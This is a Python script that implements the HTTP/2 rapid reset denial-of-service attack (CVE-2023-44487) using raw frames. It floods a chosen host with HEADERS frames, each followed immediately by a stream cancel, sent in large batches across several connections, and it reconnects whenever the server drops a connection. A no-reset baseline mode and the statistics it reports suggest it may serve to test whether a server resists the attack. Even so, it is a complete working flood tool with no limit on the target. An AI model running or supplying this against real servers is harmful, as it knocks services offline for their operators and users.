#!/usr/bin/env python3
"""HTTP/2 rapid reset (CVE-2023-44487) from raw frames, standard library only.

    h2flood.py HOST PORT PATH --streams N [--conns C] [--key KEY] [--seconds S]
               [--no-reset]

Opens C cleartext HTTP/2 connections (prior knowledge) and on each sends
HEADERS (END_STREAM) for PATH then at once RST_STREAM (CANCEL) for the same
stream, in batches of 500 pairs per write, until N streams were sent in all
or S seconds passed, pausing 20 ms after each batch unless the server
closes the connection first.  A connection the server closes is opened
again (a flood that reconnects).  With --no-reset the streams are left to be
answered (up to 100 at a time per connection: the advertised limit).
Header blocks use HPACK literals without indexing, so no decoder state is
needed; the server's frames are read and counted, not decoded, except
GOAWAY.

Prints one JSON object: streams sent, seconds, connections opened, how many
the server closed, GOAWAY frames seen, bytes read.
"""
import argparse
import json
import socket
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 0x8


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
        struct.pack(">I", stream & 0x7FFFFFFF) + payload


def hpack_int(value, prefix_bits, first):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name, value):
    """Literal header field without indexing, new name (RFC 7541 6.2.2)."""
    n, v = name.encode(), value.encode()
    return b"\x00" + hpack_int(len(n), 7, 0) + n + hpack_int(len(v), 7, 0) + v


def header_block(authority, path, key):
    block = literal(":method", "GET") + literal(":scheme", "http") + \
        literal(":authority", authority) + literal(":path", path)
    if key:
        block += literal("authorization", "Bearer " + key)
    return block


class Conn:
    def __init__(self, host, port, stats):
        self.sock = socket.create_connection((host, port), timeout=10)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.closed = threading.Event()
        self.stats = stats
        # A large connection window, so answers never wait on us.
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0) +
                          frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)))
        self.reader = threading.Thread(target=self.read, daemon=True)
        self.reader.start()
        self.next_id = 1

    def read(self):
        buf = b""
        try:
            while True:
                data = self.sock.recv(1 << 16)
                if not data:
                    break
                self.stats["bytes_read"] += len(data)
                buf += data
                while len(buf) >= 9:
                    length = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + length:
                        break
                    ftype, flags = buf[3], buf[4]
                    if ftype == GOAWAY:
                        self.stats["goaway"] += 1
                    elif ftype == SETTINGS and not flags & ACK:
                        self.sock.sendall(frame(SETTINGS, ACK, 0))
                    elif ftype == HEADERS:
                        self.stats["answers"] += 1
                    buf = buf[9 + length:]
        except OSError:
            pass
        self.closed.set()

    def send_streams(self, block, n, reset):
        out = []
        for _ in range(n):
            sid = self.next_id
            self.next_id += 2
            out.append(frame(HEADERS, END_STREAM | END_HEADERS, sid, block))
            if reset:
                out.append(frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL)))
        self.sock.sendall(b"".join(out))

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def run_conn(a, block, budget, stats, lock, deadline):
    conn = None
    while time.monotonic() < deadline:
        with lock:
            n = min(500 if not a.no_reset else 100, budget[0])
            budget[0] -= n
        if n <= 0:
            break
        try:
            if conn is None or conn.closed.is_set():
                if conn is not None:
                    stats["closed_by_server"] += 1
                    conn.close()
                conn = Conn(a.host, a.port, stats)
                stats["connections"] += 1
            conn.send_streams(block, n, not a.no_reset)
            stats["streams"] += n
            if not a.no_reset:
                # Give the server the time to read them (or to close).
                conn.closed.wait(0.02)
            else:
                # Wait for this batch's answers before the next one.
                want = stats["answers"] + n
                while stats["answers"] < want and not conn.closed.is_set() and \
                        time.monotonic() < deadline:
                    time.sleep(0.005)
        except OSError:
            with lock:
                budget[0] += n  # not sent: the next connection sends them
            if conn is not None:
                conn.closed.set()
    if conn is not None:
        conn.close()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("path")
    ap.add_argument("--streams", type=int, default=40000)
    ap.add_argument("--conns", type=int, default=2)
    ap.add_argument("--key", default="")
    ap.add_argument("--seconds", type=float, default=30)
    ap.add_argument("--no-reset", action="store_true")
    a = ap.parse_args()
    block = header_block(f"{a.host}:{a.port}", a.path, a.key)
    stats = {"streams": 0, "connections": 0, "closed_by_server": 0, "goaway": 0,
             "bytes_read": 0, "answers": 0}
    budget, lock = [a.streams], threading.Lock()
    t0 = time.monotonic()
    deadline = t0 + a.seconds
    threads = [threading.Thread(target=run_conn, args=(a, block, budget, stats, lock, deadline))
               for _ in range(a.conns)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    stats["seconds"] = round(time.monotonic() - t0, 3)
    print(json.dumps(stats))


if __name__ == "__main__":
    main()
